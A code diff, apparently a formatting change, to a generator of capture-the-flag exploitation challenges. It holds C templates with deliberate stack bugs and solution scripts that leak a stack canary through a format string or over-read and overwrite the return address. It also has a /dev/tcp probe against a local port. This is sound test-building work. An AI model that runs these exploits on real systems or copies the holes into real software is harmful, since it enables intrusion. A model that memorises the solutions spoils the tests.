@@ -25,7 +25,10 @@ void $win(void) {
 }
 """
 
-_FORMAT_LEAK_C = Template(_HEADERS + _WIN + """
+_FORMAT_LEAK_C = Template(
+    _HEADERS
+    + _WIN
+    + """
 static void $vuln(void) {
     char $name[$name_size];
     char $msg[$msg_size];
@@ -45,9 +48,13 @@ int main(void) {
     $vuln();
     return 0;
 }
-""")
+"""
+)
 
-_OVERREAD_C = Template(_HEADERS + _WIN + """
+_OVERREAD_C = Template(
+    _HEADERS
+    + _WIN
+    + """
 static void $vuln(void) {
     char $msg[$msg_size];
     char $line[16];
@@ -67,7 +74,8 @@ int main(void) {
     $vuln();
     return 0;
 }
-""")
+"""
+)
 
 # Shared by both templates: the frame layout is read from the binary's disassembly, as an analyst would.
 _CANARY_COMMON = """
@@ -94,7 +102,9 @@ def until(marker):
     return data
 """
 
-_FORMAT_SOLUTION = Template(_CANARY_COMMON + """
+_FORMAT_SOLUTION = Template(
+    _CANARY_COMMON
+    + """
 until(b"Who are you?\\n")
 index = 6 + (frame - 8) // 8
 sock.sendall(b"%%%d$$p|" % index)
@@ -102,9 +112,12 @@ canary = int(until(b"Leave a message:\\n").split(b"Hello, ", 1)[1].split(b"|", 1
 print("canary_index=%d" % index)
 sock.sendall(b"A" * (buffer - 8) + struct.pack("<QQQQ", canary, 0, ret, win))
 print(until(b"}").decode(errors="replace"))
-""")
+"""
+)
 
-_OVERREAD_SOLUTION = Template(_CANARY_COMMON + """
+_OVERREAD_SOLUTION = Template(
+    _CANARY_COMMON
+    + """
 until(b"Send a line:\\n")
 sock.sendall(b"x")
 until(b"echo back?\\n")
@@ -114,7 +127,8 @@ canary = struct.unpack("<Q", echoed[buffer - 8 : buffer])[0]
 print("echo_length=%d" % buffer)
 sock.sendall(b"A" * (buffer - 8) + struct.pack("<QQQQ", canary, 0, ret, win))
 print(until(b"}").decode(errors="replace"))
-""")
+"""
+)
 
 
 def _vault(rng: random.Random, flag: str, program: Template, solution: Template) -> tuple[dict[str, str], Parts]:
@@ -164,7 +178,10 @@ build_canary = Templates((_format_leak, _overread_leak))
 
 # ---- pwn-blind: only a port; the layout is found by probing, the unlocking value is named in the refusal ----
 
-_BLIND_TOKEN_C = Template(_HEADERS + _WIN + """
+_BLIND_TOKEN_C = Template(
+    _HEADERS
+    + _WIN
+    + """
 struct $struct_name {
     char $buf[$size];
     uint32_t $token;
@@ -182,9 +199,13 @@ int main(void) {
     printf("clearance %08x is below the vault's %08x\\n", s.$token, 0x$magic);
     return 0;
 }
-""")
+"""
+)
 
-_BLIND_ROLE_C = Template(_HEADERS + _WIN + """
+_BLIND_ROLE_C = Template(
+    _HEADERS
+    + _WIN
+    + """
 struct $struct_name {
     char $buf[$size];
     char $role[16];
@@ -203,7 +224,8 @@ int main(void) {
     printf("role '%s' may not open the vault (only '$word' may)\\n", s.$role);
     return 0;
 }
-""")
+"""
+)
 
 # Reconnaissance: the shortest input that changes the reported clearance or role marks the field's offset.
 _BLIND_PROBE = """python3 - <<'EOF'
@@ -265,9 +287,14 @@ def _blind_service(rng: random.Random, flag: str, program: Template) -> Parts:
         files={src_name: source.encode(), "wrapper.py": wrapper.encode(), flag_file: flag.encode()},
         setup=service_setup(port, "python3 wrapper.py", pre=pre) + "\nrm -f wrapper.py\n",
         solution=py_solution(_BLIND_SOLUTION.substitute(offset=offset, value=value), str(port)),
-        subtasks=(Subtask("offset", "After how many input bytes does your input overwrite the checked field?", str(offset)),),
+        subtasks=(
+            Subtask("offset", "After how many input bytes does your input overwrite the checked field?", str(offset)),
+        ),
         program=source,
-        recon=(f"printf 'x' | timeout 3 bash -c 'cat > /dev/tcp/127.0.0.1/{port}' ; echo", _BLIND_PROBE.replace("PORT", str(port))),
+        recon=(
+            f"printf 'x' | timeout 3 bash -c 'cat > /dev/tcp/127.0.0.1/{port}' ; echo",
+            _BLIND_PROBE.replace("PORT", str(port)),
+        ),
         port=port,
     )
 
